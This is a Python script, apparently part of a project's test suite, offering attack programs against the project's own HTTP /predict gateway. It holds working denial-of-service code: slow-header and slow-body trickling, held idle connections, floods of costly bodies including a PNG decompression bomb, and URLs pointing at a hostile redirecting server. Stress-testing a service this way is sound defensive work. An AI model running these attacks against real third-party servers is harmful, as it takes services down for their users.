"""Our own attack programs. Each runs until it is terminated.

python attackers.py idle HOST PORT CONNECTIONS               silent connections, opened again when closed
python attackers.py slow-headers HOST PORT CONNECTIONS       a header line every few seconds
python attackers.py slow-body HOST PORT CONNECTIONS          a byte of the announced body every few seconds
python attackers.py bodies HOST PORT CONNECTIONS FAMILY      costly bodies (tests/support/adversarial/)
python attackers.py urls HOST PORT CONNECTIONS PATH ADDRESS  URLs of a hostile server, which has that address
"""

from __future__ import annotations

import contextlib
import http.client
import itertools
import json
import selectors
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

TESTS = Path(__file__).parents[2]
sys.path += [str(TESTS / "support"), str(TESTS / "gateway" / "support")]

from adversarial import BODIES, Body  # noqa: E402

from hostile_server import HostileServer  # noqa: E402

#: Bytes of a costly body: large enough to cost, small enough for many of them each second.
BODY_BYTES = 1_000_000
_TRICKLE_SECONDS = 3.0
_HEADERS = b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Type: image/jpeg\r\n"


def families() -> list[str]:
    """The kinds of costly bodies, by the first word of their names."""
    return list(dict.fromkeys(name.partition("-")[0] for name in BODIES))


def hold_connections(host: str, port: int, count: int, first: bytes, more: bytes) -> None:
    """Keeps `count` connections open: sends `first` on each, then `more` every few seconds."""
    selector = selectors.DefaultSelector()
    trickle = time.monotonic() + _TRICKLE_SECONDS
    while True:
        while len(selector.get_map()) < count:
            try:
                connection = socket.create_connection((host, port), timeout=5)
                connection.sendall(first)
            except OSError:
                time.sleep(0.05)
                break
            selector.register(connection, selectors.EVENT_READ)
        for key, _ in selector.select(0.1):
            assert isinstance(key.fileobj, socket.socket)
            # Whatever the server sends: a response or the end.
            with contextlib.suppress(OSError):
                if key.fileobj.recv(65536):
                    continue
            selector.unregister(key.fileobj)
            key.fileobj.close()
        if more and time.monotonic() > trickle:
            trickle = time.monotonic() + _TRICKLE_SECONDS
            for key in list(selector.get_map().values()):
                assert isinstance(key.fileobj, socket.socket)
                with contextlib.suppress(OSError):
                    key.fileobj.send(more)


def in_threads(count: int, work: Callable[[int], None]) -> None:
    """Do the same work in `count` threads."""
    threads = [threading.Thread(target=work, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def post(host: str, port: int, body: Body) -> None:
    """Send one request and ignore the result. Pause after a refused one."""
    connection = http.client.HTTPConnection(host, port, timeout=30)
    try:
        connection.connect()
        # Closing resets the connection. Otherwise 600 closed connections a second would soon hold all local
        # ports, and the good clients could not connect.
        connection.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.request("POST", "/predict", body.data, {"Content-Type": body.content_type})
        status = connection.getresponse().status
    except (OSError, http.client.HTTPException):
        status = 0
    finally:
        connection.close()
    if status in (0, 503):
        time.sleep(0.1)


def send_bodies(host: str, port: int, connections: int, family: str) -> None:
    """Send the bodies of a family one after the other, on this number of connections in parallel."""
    bodies = [make(BODY_BYTES) for name, make in BODIES.items() if name.partition("-")[0] == family]

    def work(number: int) -> None:
        for at in itertools.count(number):
            post(host, port, bodies[at % len(bodies)])

    in_threads(connections, work)


def send_urls(host: str, port: int, connections: int, path: str, address: str) -> None:
    """Send URLs of a hostile server. For `bomb` it serves small files with many pixels."""
    bomb = BODIES["png-bomb"](BODY_BYTES).data
    server = HostileServer(bomb, address)
    server.redirect_to = f"http://{address}:{server.port}/redirect"
    body = json.dumps({"url": f"http://{address}:{server.port}/{path}"}).encode()

    def work(_: int) -> None:
        while True:
            post(host, port, Body("application/json", body))

    in_threads(connections, work)


def main() -> None:
    kind, host, port, connections = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    match kind:
        case "idle":
            hold_connections(host, port, connections, b"", b"")
        case "slow-headers":
            hold_connections(host, port, connections, _HEADERS, b"X: y\r\n")
        case "slow-body":
            hold_connections(host, port, connections, _HEADERS + b"Content-Length: 100000\r\n\r\n", b"x")
        case "bodies":
            send_bodies(host, port, connections, sys.argv[5])
        case "urls":
            send_urls(host, port, connections, sys.argv[5], sys.argv[6])
        case _:
            raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
